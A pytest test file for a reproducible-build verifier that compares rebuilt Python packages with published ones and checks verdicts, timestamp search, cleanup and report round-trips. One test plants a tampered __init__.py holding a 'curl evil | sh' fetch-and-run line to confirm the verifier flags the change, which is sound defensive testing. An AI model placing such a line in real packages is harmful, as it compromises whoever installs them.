"""The verify pipeline with only the container build replaced (tests/support/fake_builder.py): real
git repositories, a real local index over HTTP, the real comparison; milliseconds per build."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.support.fake_builder import FakeBuilder
from tests.support.fake_release import DEMO, FakeRelease, fake_release
from verifier.report.model.serialize import from_data, to_data
from verifier.report.model.verdict import Verdict
from verifier.report.model.verify import (
    NamedBase,
    PublishedOnIndex,
    TransplantResult,
    VerifyReport,
)
from verifier.report.verify_text import render_verify
from verifier.testing.index_server import LocalIndex

TOP = "fake_demo-1.0.0"


@pytest.fixture
def release(tmp_path: Path, index_dir: Path, local_index: LocalIndex) -> FakeRelease:
    return fake_release(tmp_path, index_dir, local_index)


def test_the_same_bytes_are_identical(release: FakeRelease) -> None:
    published = release.publish()
    report = release.verify()
    assert report.verdict is Verdict.IDENTICAL and report.verdict.exit_code == 0
    assert (report.package, report.version) == (DEMO.name, DEMO.version)
    assert report.source is not None and report.source.tag == DEMO.tag
    assert report.source.source_date_epoch == release.commit_time
    assert report.source.source_date_epoch_origin == "tag"
    assert isinstance(report.published, PublishedOnIndex) and report.published.url.endswith(published.name)
    assert report.rebuilt is not None and report.rebuilt.sha256 == report.published.sha256
    assert report.builder is not None and (report.builder.name, report.builder.runtime) == ("fake", "none")
    assert isinstance(report.builder.base, NamedBase)
    assert [r.name for r in report.builder.build_requirements] == ["fake-backend"]
    assert report.recipe is not None and report.recipe.source_date_epoch.origin == "tag"
    assert [attempt.verdict for attempt in report.attempts] == [Verdict.IDENTICAL]
    assert [check.name for check in report.checks] == ["mtime-window"]
    assert report.comparison is not None and report.comparison.differences == ()
    assert set(report.timings) == {"source", "fetch", "image", "build", "compare"}
    assert report.reproduce.startswith("verifier verify --tag v1.0.0 --repo ")
    assert "--builder fake" in report.reproduce
    assert report.workdir == str(release.workdir), "a directory given by the caller is not deleted"
    assert report.error is None and report.tool_version


def test_other_timestamps_are_equivalent_and_the_transplant_proves_it(release: FakeRelease) -> None:
    release.publish(epoch=release.commit_time + 3600)
    report = release.verify()
    assert report.verdict is Verdict.EQUIVALENT and report.verdict.exit_code == 0
    assert report.comparison is not None and not report.comparison.differences
    assert isinstance(report.transplant, TransplantResult) and report.transplant.identical


def test_changed_content_is_different_naming_the_member(release: FakeRelease) -> None:
    release.publish(replace={"src/fake_demo/__init__.py": b"import os\nos.system('curl evil | sh')\n"})
    report = release.verify()
    assert report.verdict is Verdict.DIFFERENT and report.verdict.exit_code == 1
    assert report.comparison is not None
    assert f"{TOP}/src/fake_demo/__init__.py" in {d.path for d in report.comparison.differences}
    assert report.workdir and Path(report.workdir).is_dir(), "kept for inspection"


def test_a_failing_build_could_not_verify(release: FakeRelease) -> None:
    release.publish()
    release.builder = FakeBuilder(fail="this release cannot be built")
    report = release.verify()
    assert report.verdict is Verdict.COULD_NOT_VERIFY and report.verdict.exit_code == 3
    assert report.error is not None and "build failed" in report.error
    assert "this release cannot be built" in report.error_details
    assert report.builder is None and report.rebuilt is None and report.comparison is None
    assert report.published is not None and report.source is not None and report.source.source_date_epoch_origin is None
    assert "--builder fake" in report.reproduce


def test_a_missing_tag_is_an_error(release: FakeRelease) -> None:
    release.publish()
    report = release.verify(tag="9.9.9")
    assert report.verdict is Verdict.ERROR and report.verdict.exit_code == 2
    assert report.source is None and report.published is None and not release.builder.requests


def test_search_picks_the_recipe_that_reproduces_the_bytes(release: FakeRelease) -> None:
    stamp = release.commit_time + 3600
    release.publish(epoch=stamp)
    report = release.verify(search=True)
    assert report.verdict is Verdict.IDENTICAL
    assert [attempt.verdict for attempt in report.attempts] == [Verdict.EQUIVALENT, Verdict.IDENTICAL]
    assert [request.source_date_epoch for request in release.builder.requests] == [release.commit_time, stamp]
    assert report.recipe is not None and report.recipe.source_date_epoch.value == stamp
    assert report.source is not None and report.source.source_date_epoch_origin == "infer:member-stamp"
    assert f"--source-date-epoch {stamp}" in report.reproduce
    assert any(message.startswith("--search: trying") for message in release.progress)


def test_a_search_build_that_could_not_run_is_listed_among_the_attempts(release: FakeRelease) -> None:
    release.publish(epoch=release.commit_time + 3600)
    release.builder = FakeBuilder(fail_after=1)
    report = release.verify(search=True, max_builds=2)
    assert [attempt.verdict for attempt in report.attempts] == [Verdict.EQUIVALENT, Verdict.COULD_NOT_VERIFY]
    assert "cannot be satisfied" in report.attempts[1].error and report.attempts[1].rebuilt_sha256 == ""
    assert report.verdict is Verdict.EQUIVALENT and report.attempts[0].error == ""
    text = "\n".join(render_verify(report))
    assert "attempts (--search, 2 builds):" in text and "could not build (build failed" in text


def test_search_stops_within_its_budget(release: FakeRelease) -> None:
    release.publish(epoch=release.commit_time + 3600)
    report = release.verify(search=True, max_builds=1)
    assert [attempt.verdict for attempt in report.attempts] == [Verdict.EQUIVALENT]
    assert len(release.builder.requests) == 1


def test_a_reproducible_run_in_its_own_scratch_directory_cleans_up(release: FakeRelease) -> None:
    release.publish()
    release.workdir = None  # type: ignore[assignment]
    report = release.verify()
    assert report.verdict is Verdict.IDENTICAL
    assert report.workdir is None
    assert report.builder is not None and report.builder.log is None
    assert report.rebuilt is not None and report.rebuilt.path is None
    assert release.builder.requests and not release.builder.requests[0].workdir.exists()


def test_a_build_that_could_not_run_keeps_its_scratch_directory(release: FakeRelease) -> None:
    release.publish()
    release.workdir = None  # type: ignore[assignment]
    release.builder = FakeBuilder(fail="this release cannot be built")
    report = release.verify()
    assert report.verdict is Verdict.COULD_NOT_VERIFY
    assert report.workdir and Path(report.workdir).is_dir(), "kept: the error names the build log in it"
    shutil.rmtree(report.workdir)


def test_the_report_reads_back_as_written(release: FakeRelease) -> None:
    release.publish(replace={"README.md": b"# changed\n"})
    report = release.verify(search=True)
    data = to_data(report)
    again = from_data(VerifyReport, data)
    assert to_data(again) == data
    assert again.verdict is report.verdict and again.comparison is not None
